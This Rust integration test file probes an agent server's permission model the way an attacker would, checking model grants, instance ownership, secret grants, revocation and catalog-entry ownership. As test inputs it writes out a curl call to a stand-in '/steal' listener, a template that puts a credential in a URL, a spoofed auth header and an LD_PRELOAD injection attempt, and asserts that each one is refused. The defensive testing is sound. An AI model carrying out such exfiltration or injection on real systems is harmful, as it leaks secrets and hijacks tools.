//! The security model, tried as an attacker would with agents of limited flags against the real
//! binary: models have owners, a fire acts with the authority of everyone behind it, secrets go
//! only where the operator granted them, and entries belong to whoever registered them.

mod common;

use std::io::{Read, Write};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use agentos_core::flags::Flag;
use agentos_server::routes::{ModelRule, Permission, ROUTES};
use common::{Api, Executor, Master, wait_for};
use serde_json::{Value, json};

/// An agent with `flags` and home model `model`.
fn agent(op: &Api, name: &str, flags: &str, model: &str) -> Api {
    let (status, v) = op.post("/api/agents", json!({"name": name, "flags": flags, "model": model}));
    assert_eq!(status, 200, "{v}");
    op.with_token(v["token"].as_str())
}

/// The positional flag string holding exactly these flags.
fn flags(of: &[Flag]) -> String {
    Flag::ALL.iter().map(|f| if of.contains(f) { f.letter() } else { '-' }).collect()
}

/// A listener on 127.0.0.1 that stands in for an attacker's server: it counts requests and
/// answers each with `{"ok":true}`.
fn listener() -> (u16, Arc<AtomicUsize>) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            h.fetch_add(1, Ordering::SeqCst);
            let mut buf = [0u8; 8192];
            let _ = s.read(&mut buf);
            let body = r#"{"ok":true}"#;
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    (port, hits)
}

fn pass_net() -> Value {
    json!({"places": ["p-a", "p-b"], "transitions": [{"id": "t", "kind": "pass",
        "presets": {"i": {"place": "p-a"}}, "postsets": {"o": {"place": "p-b"}}, "emit": [{"to": "o"}]}]})
}

fn command_net(credentials: &[&str]) -> Value {
    json!({"places": ["p-cmd", "p-out"], "transitions": [{"id": "run", "kind": "command",
        "presets": {"c": {"place": "p-cmd"}}, "postsets": {"o": {"place": "p-out"}},
        "action": {"credentials": credentials}, "emit": [{"to": "o", "from": "@response"}]}]})
}

fn http_net(url: &str, headers: Value) -> Value {
    json!({"places": ["p-in", "p-out"], "transitions": [{"id": "call", "kind": "http",
        "presets": {"i": {"place": "p-in"}}, "postsets": {"o": {"place": "p-out"}},
        "action": {"method": "GET", "url": url, "headers": headers}, "emit": [{"to": "o"}]}]})
}

/// The last error of a transition once it has one.
fn last_error(api: &Api, model: &str, transition: &str) -> String {
    let mut error = String::new();
    wait_for(&format!("an error on {model}/{transition}"), || {
        let (_, net) = api.get(&format!("/api/models/{model}/net"));
        let t = net["transitions"].as_array().and_then(|ts| ts.iter().find(|t| t["id"] == transition).cloned());
        match t.and_then(|t| t["lastError"].as_str().map(str::to_string)) {
            Some(e) => {
                error = e;
                true
            }
            None => false,
        }
    });
    error
}

/// The name of the tool-net instance running now, once there is one.
fn running_instance(op: &Api) -> String {
    let mut instance = String::new();
    wait_for("a tool-net instance", || {
        let (_, models) = op.get("/api/models");
        match models.as_array().unwrap().iter().find(|m| m["name"].as_str().unwrap().starts_with("tni-")) {
            Some(m) => {
                instance = m["name"].as_str().unwrap().to_string();
                true
            }
            None => false,
        }
    });
    instance
}

fn status_of(r: (u16, Value)) -> u16 {
    r.0
}

#[test]
fn an_agent_acts_only_in_its_home_model_and_the_models_granted_to_it() {
    let dir = tempfile::tempdir().unwrap();
    let m = Master::start(dir.path());
    let op = m.client();
    assert_eq!(op.put("/api/models/mb/net", pass_net()).0, 200);
    assert_eq!(op.post("/api/models/mb/transitions/t/start", json!({})).0, 200);
    op.register("mb-local", "sh", "echo mb", Some("mb"));
    let a = agent(&op, "a", "rwx------s", "ma");
    assert_eq!(a.put("/api/models/ma/net", pass_net()).0, 200, "its own model");

    // Writes to another model are refused before anything is written.
    for (method, path, body) in [
        ("PUT", "/api/models/mb/net", Some(pass_net())),
        ("POST", "/api/models/mb/places/p-a/tokens", Some(json!({"data": {"x": 1}}))),
        ("POST", "/api/models/mb/transitions/t/stop", Some(json!({}))),
        ("POST", "/api/models/mb/transitions/t/fire", Some(json!({}))),
        ("PUT", "/api/models/default/net", Some(pass_net())),
        ("GET", "/api/models/mb/net", None),
        ("GET", "/api/models/mb/places/p-a/tokens", None),
        ("GET", "/api/models/mb/links", None),
        ("GET", "/api/models/mb/watch", None),
        ("GET", "/api/tool-catalog?model=mb", None),
        ("GET", "/api/tool-catalog/mb-local?model=mb", None),
        ("POST", "/api/tools/mb-local/invoke?model=mb", Some(json!({"timeoutMs": 1000}))),
    ] {
        let (status, v) = a.request(method, path, body);
        assert_eq!(status, 403, "{method} {path}: {v}");
        assert!(v["error"]["message"].as_str().unwrap().contains("agent grant a --model"), "{v}");
    }
    let (_, events) = op.get("/api/events?principal=a&limit=1000");
    assert!(
        events.as_array().unwrap().iter().all(|e| e["model"] == "ma"),
        "a refused request wrote something: {events}"
    );
    assert_eq!(status_of(a.post("/api/models", json!({"name": "elsewhere"}))), 403);
    let (_, models) = a.get("/api/models");
    let names: Vec<&str> = models.as_array().unwrap().iter().map(|m| m["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["default", "ma"], "{models}");
    // The script blob of mb's local entry is not a's to read.
    let (_, entry) = op.get("/api/tool-catalog/mb-local?model=mb");
    let urn = entry["binding"]["scriptUrn"].as_str().unwrap();
    assert_eq!(a.get(&format!("/api/blobs/{urn}")).0, 404);
    assert_eq!(op.get(&format!("/api/blobs/{urn}")).0, 200);

    // Granted, then revoked: each an event, listed.
    let out = std::process::Command::new(common::BIN)
        .args(["agent", "grant", "a", "--model", "mb"])
        .env("AGENTOS_URL", &m.url)
        .env("AGENTOS_TOKEN", &m.token)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let (_, agents) = op.get("/api/agents");
    assert_eq!(agents.as_array().unwrap().iter().find(|p| p["name"] == "a").unwrap()["granted"], json!(["mb"]));
    assert_eq!(a.get("/api/models/mb/net").0, 200);
    assert_eq!(a.post("/api/models/mb/places/p-a/tokens", json!({"data": {"x": 1}})).0, 200);
    wait_for("the pass transition to move a's token", || op.token_data("mb", "p-b").len() == 1);
    assert_eq!(a.get(&format!("/api/blobs/{urn}")).0, 200);
    assert_eq!(op.request("DELETE", "/api/agents/a/grants/mb", None).0, 200);
    assert_eq!(a.get("/api/models/mb/net").0, 403);
    let (_, events) = op.get("/api/events?limit=1000");
    let kinds: Vec<&str> = events.as_array().unwrap().iter().map(|e| e["type"].as_str().unwrap()).collect();
    assert!(kinds.contains(&"ModelGranted") && kinds.contains(&"ModelGrantRevoked"), "{kinds:?}");
}

#[test]
fn a_tool_net_instance_belongs_to_its_invoker_alone() {
    let dir = tempfile::tempdir().unwrap();
    let m = Master::start(dir.path());
    let op = m.client();
    // A tool net that never answers: its instance stays while the invocation waits.
    let stall = json!({"places": ["p-in", "p-mid", "p-out"], "transitions": [{"id": "t", "kind": "pass",
        "presets": {"i": {"place": "p-in"}}, "postsets": {"o": {"place": "p-mid"}}, "emit": [{"to": "o"}]}]});
    let (s, v) = op.command(json!({"type": "TOOL_CATALOG_REGISTER_TOOLNET", "id": "stall", "name": "stall",
        "model": "default", "net": stall, "inputPlace": "p-in", "outputPlace": "p-out"}));
    assert_eq!(s, 200, "{v}");
    let b = agent(&op, "b", &flags(&[Flag::Read, Flag::ToolNets]), "mb");
    let a = agent(&op, "a", &flags(&[Flag::Read, Flag::Write, Flag::Execute]), "ma");
    let waiting = {
        let b = b.clone();
        std::thread::spawn(move || b.invoke("stall", json!({"input": {"q": 1}, "timeoutMs": 4000})))
    };
    let instance = running_instance(&op);
    let (_, seen) = a.get("/api/models");
    assert!(!seen.to_string().contains("tni-"), "another principal's instance is listed: {seen}");
    assert_eq!(
        a.post(&format!("/api/models/{instance}/places/p-out/tokens"), json!({"data": {"forged": true}})).0,
        403
    );
    assert_eq!(a.get(&format!("/api/models/{instance}/net")).0, 403);
    assert_eq!(b.get(&format!("/api/models/{instance}/net")).0, 200, "the invoker may look at its own");
    let (status, v) = waiting.join().unwrap();
    assert_eq!(status, 504, "the forged answer was not taken: {v}");
}

#[test]
fn w_and_t_alone_run_no_command_and_reach_no_url() {
    let dir = tempfile::tempdir().unwrap();
    let m = Master::start(&dir.path().join("master"));
    let op = m.client();
    let _e = Executor::start(&m, &dir.path().join("exec"), "e1", &[]);
    let (port, hits) = listener();
    let url = format!("http://127.0.0.1:{port}/steal");
    let register = |id: &str, mut net: Value| {
        let input = if id == "runner" { "p-cmd" } else { "p-in" };
        net["places"] = json!([input, "p-out"]);
        let (s, v) = op.command(json!({"type": "TOOL_CATALOG_REGISTER_TOOLNET", "id": id, "name": id,
            "model": "default", "net": net, "inputPlace": input, "outputPlace": "p-out"}));
        assert_eq!(s, 200, "{v}");
    };
    register("runner", command_net(&[]));
    register("fetcher", http_net(&url, json!({})));
    // The operator's own call runs: the refusals below are the flags, not a broken net.
    let (s, v) = op.invoke("runner", json!({"input": {"executor": "bash", "command": "id -u", "args": {}}}));
    assert_eq!(s, 200, "{v}");
    assert!(v["output"]["stdout"].as_str().unwrap().trim().parse::<u32>().is_ok(), "{v}");

    let wt = agent(&op, "wt", &flags(&[Flag::Write, Flag::ToolNets]), "wt");
    let (s, v) =
        wt.invoke("runner", json!({"input": {"executor": "bash", "command": "id", "args": {}}, "timeoutMs": 2000}));
    assert_eq!(s, 504, "{v}");
    let why = v["error"]["message"].as_str().unwrap();
    assert!(why.contains("refused") && why.contains("'x'"), "{v}");
    let (s, v) = wt.invoke("fetcher", json!({"input": {}, "timeoutMs": 2000}));
    assert_eq!(s, 504, "{v}");
    assert!(v["error"]["message"].as_str().unwrap().contains("refused"), "{v}");

    // rwx without s or h, in its own model.
    let rwx = agent(&op, "rwx", "rwx", "rwx");
    assert_eq!(rwx.put("/api/models/rwx/net", command_net(&[])).0, 200);
    assert_eq!(rwx.post("/api/models/rwx/transitions/run/start", json!({})).0, 200);
    assert_eq!(
        rwx.post(
            "/api/models/rwx/places/p-cmd/tokens",
            json!({"data": {"executor": "bash", "command": "id", "args": {}}})
        )
        .0,
        200
    );
    let e = last_error(&op, "rwx", "run");
    assert!(e.contains("'s'") && e.contains("rwx"), "{e}");
    assert_eq!(rwx.put("/api/models/rwx2/net", http_net(&url, json!({}))).0, 403, "not its model");
    let net = json!({"places": ["p-cmd", "p-out", "p-in"], "transitions": [
        command_net(&[])["transitions"][0].clone(), http_net(&url, json!({}))["transitions"][0].clone()]});
    assert_eq!(rwx.put("/api/models/rwx/net", net).0, 200);
    assert_eq!(rwx.post("/api/models/rwx/transitions/call/start", json!({})).0, 200);
    assert_eq!(rwx.post("/api/models/rwx/places/p-in/tokens", json!({"data": {}})).0, 200);
    let e = last_error(&op, "rwx", "call");
    assert!(e.contains("'h'"), "{e}");
    // An operator's started command transition does not run a token another agent put there.
    let granted = agent(&op, "granted", "rwx", "granted");
    assert_eq!(op.put("/api/models/shared/net", command_net(&[])).0, 200);
    assert_eq!(op.post("/api/models/shared/transitions/run/start", json!({})).0, 200);
    assert_eq!(op.post("/api/agents/granted/grants", json!({"model": "shared"})).0, 200);
    let cmd = json!({"data": {"executor": "bash", "command": format!("curl -s {url}"), "args": {}}});
    assert_eq!(granted.post("/api/models/shared/places/p-cmd/tokens", cmd).0, 200);
    let e = last_error(&op, "shared", "run");
    assert!(e.contains("'s'") && e.contains("granted"), "{e}");
    assert_eq!(hits.load(Ordering::SeqCst), 0, "a request reached the listener");
}

#[test]
fn secrets_reach_only_the_uses_the_operator_granted() {
    let secret = "s3cr3t-value-0042";
    let dir = tempfile::tempdir().unwrap();
    let m = Master::start_full(
        &dir.path().join("master"),
        "127.0.0.1:0",
        &[],
        &[("AGENTOS_CREDENTIAL_ENV_KEY", "from-the-environment-1")],
    );
    let op = m.client();
    let _e = Executor::start(&m, &dir.path().join("exec"), "e1", &[]);
    let (port, hits) = listener();
    assert_eq!(op.put("/api/secrets/API_KEY", json!({"value": secret})).0, 200);

    // Templates that would put a secret into a token, an event or a URL are refused outright.
    let map = json!({"places": ["p-a", "p-b"], "transitions": [{"id": "m", "kind": "map",
        "presets": {"i": {"place": "p-a"}}, "postsets": {"o": {"place": "p-b"}},
        "action": {"template": {"k": "${credentials.API_KEY}"}}, "emit": [{"to": "o"}]}]});
    let (s, v) = op.put("/api/models/leak/net", map);
    assert_eq!(s, 400, "{v}");
    assert!(v.to_string().contains("cannot read credentials"), "{v}");
    let url = format!("http://127.0.0.1:{port}/steal?k=${{credentials.API_KEY}}");
    let (s, v) = op.put("/api/models/leak/net", http_net(&url, json!({})));
    assert_eq!(s, 400, "{v}");
    let spoof = json!({"Authorization": "Bearer ${credentials.API_KEY}", "Host": "elsewhere"});
    assert_eq!(op.put("/api/models/leak/net", http_net(&format!("http://127.0.0.1:{port}/"), spoof)).0, 400);

    // A header credential without an origin grant, and one from the environment, go nowhere.
    for name in ["API_KEY", "ENV_KEY"] {
        let model = format!("hdr-{}", name.to_lowercase().replace('_', "-"));
        let headers = json!({"Authorization": format!("Bearer ${{credentials.{name}}}")});
        assert_eq!(
            op.put(&format!("/api/models/{model}/net"), http_net(&format!("http://127.0.0.1:{port}/"), headers)).0,
            200
        );
        assert_eq!(op.post(&format!("/api/models/{model}/transitions/call/start"), json!({})).0, 200);
        assert_eq!(op.post(&format!("/api/models/{model}/places/p-in/tokens"), json!({"data": {}})).0, 200);
        let e = last_error(&op, &model, "call");
        assert!(e.contains("not granted"), "{e}");
    }
    assert_eq!(hits.load(Ordering::SeqCst), 0, "a request carrying no granted secret went out");

    // Scripts: the granted one receives its secret; others, a changed one and bash do not.
    let show = "printf 'len=%s\\n' \"${#API_KEY}\"";
    assert_eq!(op.register("show", "sh", show, Some("default")).0, 200);
    assert_eq!(op.register("other", "sh", show, Some("default")).0, 200);
    let grant = std::process::Command::new(common::BIN)
        .args(["secret", "grant", "API_KEY", "--tool", "show"])
        .env("AGENTOS_URL", &m.url)
        .env("AGENTOS_TOKEN", &m.token)
        .output()
        .unwrap();
    assert!(grant.status.success(), "{}", String::from_utf8_lossy(&grant.stderr));
    // Each case in a model of its own, so one parked failure is not retried into another's.
    let run = |model: &str, data: Value| {
        assert_eq!(op.put(&format!("/api/models/{model}/net"), command_net(&["API_KEY"])).0, 200);
        assert_eq!(op.post(&format!("/api/models/{model}/transitions/run/start"), json!({})).0, 200);
        assert_eq!(op.post(&format!("/api/models/{model}/places/p-cmd/tokens"), json!({"data": data})).0, 200);
    };
    let script = |tool: &str| json!({"executor": "script", "command": "invoke", "args": {"toolId": tool}});
    run("granted", script("show"));
    wait_for("the granted script's result", || op.token_data("granted", "p-out").len() == 1);
    let out = &op.token_data("granted", "p-out")[0];
    assert_eq!(out["stdout"], format!("len={}\n", secret.len()), "{out}");

    run("ungranted", script("other"));
    assert!(last_error(&op, "ungranted", "run").contains("not granted"));
    run("bash", json!({"executor": "bash", "command": "echo $API_KEY", "args": {}}));
    let e = last_error(&op, "bash", "run");
    assert!(e.contains("registered script"), "{e}");
    // A changed pin loses the grant.
    assert_eq!(op.register("show", "sh", "echo changed; printf 'len=%s\\n' \"${#API_KEY}\"", Some("default")).0, 200);
    run("changed", script("show"));
    assert!(last_error(&op, "changed", "run").contains("not granted"));
    for model in ["ungranted", "bash", "changed"] {
        assert!(op.token_data(model, "p-out").is_empty(), "{model} produced a result");
    }
    // A sealed run takes from the caller's environment only the names its script declared.
    let envy = json!({"type": "TOOL_CATALOG_REGISTER_SCRIPT", "id": "envy", "name": "envy", "runtime": "sh",
        "model": "default", "env": ["KEEP"], "content": "echo \"keep=$KEEP drop=$DROP len=${#API_KEY}\""});
    assert_eq!(op.command(envy).0, 200);
    let (s, v) = op.command(json!({"type": "TOOL_CATALOG_REGISTER_SCRIPT", "id": "bad-env", "name": "b",
        "runtime": "sh", "content": "true", "env": ["LD_PRELOAD"]}));
    assert_eq!(s, 400, "{v}");
    assert_eq!(op.post("/api/secrets/API_KEY/grants", json!({"tool": "envy"})).0, 200);
    run(
        "declared",
        json!({"executor": "script", "command": "invoke",
        "args": {"toolId": "envy", "env": {"KEEP": "kept", "DROP": "dropped"}}}),
    );
    wait_for("the sealed run's result", || op.token_data("declared", "p-out").len() == 1);
    let out = &op.token_data("declared", "p-out")[0];
    assert_eq!(out["stdout"], format!("keep=kept drop= len={}\n", secret.len()), "{out}");
    let (_, grants) = op.get("/api/secret-grants");
    let envy_grant = grants.as_array().unwrap().iter().find(|g| g["to"]["id"] == "envy").unwrap()["id"].clone();
    assert_eq!(op.request("DELETE", &format!("/api/secret-grants/{}", envy_grant.as_str().unwrap()), None).0, 200);
    let (_, grants) = op.get("/api/secret-grants");
    assert_eq!(grants.as_array().unwrap().len(), 1, "{grants}");
    let id = grants[0]["id"].as_str().unwrap();
    assert_eq!(op.request("DELETE", &format!("/api/secret-grants/{id}"), None).0, 200);
    assert_eq!(op.get("/api/secret-grants").1, json!([]));
}

#[test]
fn a_revoked_author_s_transitions_stop_with_the_reason() {
    let dir = tempfile::tempdir().unwrap();
    let m = Master::start(dir.path());
    let op = m.client();
    let c = agent(&op, "c", "rwx", "mc");
    assert_eq!(c.put("/api/models/mc/net", pass_net()).0, 200);
    assert_eq!(c.post("/api/models/mc/transitions/t/start", json!({})).0, 200);
    assert_eq!(c.post("/api/models/mc/places/p-a/tokens", json!({"data": {"n": 1}})).0, 200);
    wait_for("the first token to pass", || op.token_data("mc", "p-b").len() == 1);
    assert_eq!(op.request("DELETE", "/api/agents/c", None).0, 200);
    // A new agent of the same name inherits nothing.
    let _c2 = agent(&op, "c", "rwx", "mc");
    assert_eq!(op.post("/api/models/mc/places/p-a/tokens", json!({"data": {"n": 2}})).0, 200);
    let e = last_error(&op, "mc", "t");
    assert!(e.contains("revoked"), "{e}");
    let (_, net) = op.get("/api/models/mc/net");
    assert_eq!(net["transitions"][0]["started"], false, "{net}");
    assert_eq!(op.token_data("mc", "p-a"), vec![json!({"n": 2})]);
}

#[test]
fn hidden_entries_do_not_show_through_shadowed() {
    let dir = tempfile::tempdir().unwrap();
    let m = Master::start(dir.path());
    let op = m.client();
    op.register("dup", "sh", "echo global", Some("default"));
    let net = json!({"places": ["p-a", "p-b"], "transitions": []});
    let (s, v) = op.command(json!({"type": "TOOL_CATALOG_REGISTER_TOOLNET", "id": "dup", "name": "dup",
        "model": "mb", "net": net, "inputPlace": "p-a", "outputPlace": "p-b"}));
    assert_eq!(s, 200, "{v}");
    let scripts = agent(&op, "s", "---------s", "mb");
    let (_, page) = scripts.get("/api/tool-catalog?model=mb");
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 1, "{page}");
    assert_eq!((items[0]["scope"].as_str(), items[0]["shadowed"].as_bool()), (Some("global"), Some(false)), "{page}");
    let (_, page) = op.get("/api/tool-catalog?model=mb");
    assert!(page["items"].as_array().unwrap().iter().any(|i| i["scope"] == "global" && i["shadowed"] == true));
}

#[test]
fn an_agent_cannot_replace_or_remove_another_principal_s_entry() {
    let dir = tempfile::tempdir().unwrap();
    let m = Master::start(dir.path());
    let op = m.client();
    assert_eq!(op.register("shared-tool", "sh", "echo operator", Some("default")).0, 200);
    let s1 = agent(&op, "s1", "---------s", "s1");
    let s2 = agent(&op, "s2", "---------s", "s2");
    let (s, v) = s1.register("shared-tool", "sh", "echo pwned", Some("default"));
    assert_eq!(s, 403, "{v}");
    assert!(v["error"]["message"].as_str().unwrap().contains("the operator"), "{v}");
    assert_eq!(s1.register("s1-tool", "sh", "echo s1", Some("default")).0, 200);
    assert_eq!(s1.register("s1-tool", "sh", "echo s1 again", Some("default")).0, 200, "its own");
    let (s, v) = s2.register("s1-tool", "sh", "echo s2", Some("default"));
    assert_eq!(s, 403, "{v}");
    assert!(v["error"]["message"].as_str().unwrap().contains("\"s1\""), "{v}");
    let (s, _) = s2.command(json!({"type": "TOOL_CATALOG_REMOVE", "id": "s1-tool", "model": "default"}));
    assert_eq!(s, 403);
    let (_, e) = op.get("/api/tool-catalog/shared-tool");
    assert_eq!(e["updatedBy"], "operator", "{e}");
    assert_eq!(op.register("s1-tool", "sh", "echo operator", Some("default")).0, 200, "the operator may");
}

/// Every route with a `{model}` parameter, for each single flag it allows: the caller's own
/// model and a granted one pass the model check; another model, `default` and another
/// principal's tool-net instance are refused.
#[test]
fn every_model_route_answers_by_model_for_each_flag() {
    let dir = tempfile::tempdir().unwrap();
    let m = Master::start(dir.path());
    let op = m.client();
    let stall = json!({"places": ["p-in", "p-out"], "transitions": []});
    let (s, v) = op.command(json!({"type": "TOOL_CATALOG_REGISTER_TOOLNET", "id": "stall", "name": "stall",
        "model": "default", "net": stall, "inputPlace": "p-in", "outputPlace": "p-out"}));
    assert_eq!(s, 200, "{v}");
    let waiting = {
        let op = op.clone();
        std::thread::spawn(move || op.invoke("stall", json!({"input": {}, "timeoutMs": 10000})))
    };
    let instance = running_instance(&op);
    let mut checked = 0;
    for f in Flag::ALL {
        let name = format!("only-{}", f.letter());
        let api = agent(&op, &name, &flags(&[f]), &name);
        assert_eq!(op.post(&format!("/api/agents/{name}/grants"), json!({"model": "granted-m"})).0, 200);
        for route in ROUTES.iter().filter(|r| r.model == ModelRule::Path) {
            let allowed = match route.permission {
                Permission::Flag(g) => g == f,
                Permission::AnyOf(gs) => gs.contains(&f),
                _ => false,
            };
            if !allowed {
                continue;
            }
            let body = if route.method == "GET" { None } else { Some(json!({"unexpected": true})) };
            for (model, ok) in [
                (name.as_str(), true),
                ("granted-m", true),
                ("someone-else", false),
                ("default", false),
                (&instance, false),
            ] {
                if ok && route.path.ends_with("/watch") {
                    continue; // an allowed stream does not end; its refusals are checked
                }
                let path =
                    route.path.replace("{model}", model).replace("{place}", "p-none").replace("{transition}", "t-none");
                let (status, v) = api.request(route.method, &path, body.clone());
                if ok {
                    assert!(status != 401 && status != 403, "{name} refused {} {path}: {status} {v}", route.method);
                } else {
                    assert_eq!(status, 403, "{name} on {} {path}: {v}", route.method);
                }
                checked += 1;
            }
        }
    }
    assert!(checked >= 40, "only {checked} checks");
    assert_eq!(waiting.join().unwrap().0, 504);
}
